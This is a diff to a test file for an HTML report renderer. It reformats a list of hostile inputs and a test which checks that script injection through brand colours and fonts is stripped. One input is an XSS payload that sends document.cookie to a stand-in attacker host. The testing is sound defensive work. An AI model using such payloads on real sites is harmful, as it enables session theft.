@@ -13,7 +13,7 @@ from functions.report.filters import Filters
 
 HOSTILE = [
     "<script>alert('kassa')</script>",
-    '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
+    "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
     "Kiitos 🙏 — ÅÄÖ åäö ß “lainaus” & <b>lihavoitu</b>",
     "شكراً لكم على الخدمة الممتازة",
     "שירות מצוין, תודה רבה",
@@ -70,8 +70,11 @@ def test_page_wears_the_clients_brand_as_css_custom_properties() -> None:
 
 
 def test_a_brand_value_that_could_break_out_of_the_style_block_is_replaced() -> None:
-    brand = Brand(name="Kauppa", colors={"primary": "red;}</style><script>alert(1)</script>"},
-                  font_family="x</style><script>alert(2)</script>")
+    brand = Brand(
+        name="Kauppa",
+        colors={"primary": "red;}</style><script>alert(1)</script>"},
+        font_family="x</style><script>alert(2)</script>",
+    )
     html = render(nps_responses([9]), brand=brand)
     assert "<script>" not in html and "alert(" not in html
     assert "--primary: #0B5FFF;" in html
